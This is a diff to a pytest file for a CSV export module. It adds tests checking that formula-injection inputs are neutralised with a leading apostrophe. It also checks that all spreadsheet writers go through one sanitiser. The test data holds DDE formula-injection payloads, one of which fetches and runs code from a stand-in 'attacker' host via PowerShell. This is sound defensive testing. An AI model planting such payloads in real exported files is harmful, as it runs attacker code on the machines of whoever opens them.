@@ -1,7 +1,9 @@
 """Cells that leave the console."""
 
+import re
 from datetime import UTC, date, datetime
 from decimal import Decimal
+from pathlib import Path
 from zoneinfo import ZoneInfo
 
 import pytest
@@ -16,9 +18,6 @@ from cango_ops.base.export import cell, csv_lines, csv_of_records, flat
         "+1",
         "-1",
         "@SUM(A1)",
-        "\t=1",
-        "\r=1",
-        "\n=1",
         "＝1+1",
         "＋1",
         "－1",
@@ -26,10 +25,61 @@ from cango_ops.base.export import cell, csv_lines, csv_of_records, flat
         " =1+1",
         "\u00a0=1+1",
         "=cmd|' /C calc'!A0",
+        "=cmd|'/C powershell IEX(wget attacker)'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "+HYPERLINK(A1)",
+        "=DDE(1)",
+        "\u200b=1+1",
+        "\ufeff=1+1",
+        "\u2060\u00ad=1+1",
+        "\x00=1+1",
+        "\x0b=1+1",
+        "\u3000＝1+1",
     ],
 )
 def test_text_that_could_start_a_formula_gets_an_apostrophe(text):
     assert cell(text) == "'" + text
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        ("\t=1", "'\t'=1"),
+        ("\r=1", "'\r'=1"),
+        ("\n=1", "'\n'=1"),
+        ("a;=1+1", "a;'=1+1"),
+        ("a; =cmd|' /C calc'!A0", "a; '=cmd|' /C calc'!A0"),
+        ("a\t@x", "a\t'@x"),
+        ("a\n=1", "a\n'=1"),
+        ("a\r\n＋1", "a\r\n'＋1"),
+        ("a;-2+3+cmd|' /C calc'!A0", "a;'-2+3+cmd|' /C calc'!A0"),
+        ("5 V; -3 A", "5 V; -3 A"),
+        ("low;-3", "low;-3"),
+        ("a,=1", "a,=1"),
+    ],
+)
+def test_no_formula_begins_where_another_separator_would_cut(text, written):
+    """Where a comma would cut, the cell is quoted by every reader of files of commas."""
+    assert cell(text) == written
+
+
+PACKAGES = [Path(__file__).resolve().parents[2] / name for name in ("cango_ops", "sites", "compute", "treasury")]
+
+
+def test_every_file_for_spreadsheets_is_written_by_one_of_three():
+    """Whoever adds another writer of CSV or XLSX passes its texts through export.py, and is entered here."""
+    found = {
+        path.relative_to(PACKAGES[0].parent).as_posix()
+        for package in PACKAGES
+        for path in package.rglob("*.py")
+        if re.search(r"csv\.(?:writer|DictWriter)\(|xlsxwriter\.Workbook\(|openpyxl|to_csv", path.read_text())
+    }
+
+    assert found == {
+        "cango_ops/base/export.py", "compute/map_file/text.py", "treasury/books/export.py",
+        "treasury/reports/documents/xlsx.py",
+    }  # fmt: skip
 
 
 @pytest.mark.parametrize("text", ["ok", "Antminer S21", "a=1", "1-2", "", "board 2 of 3 dead", "'=1"])
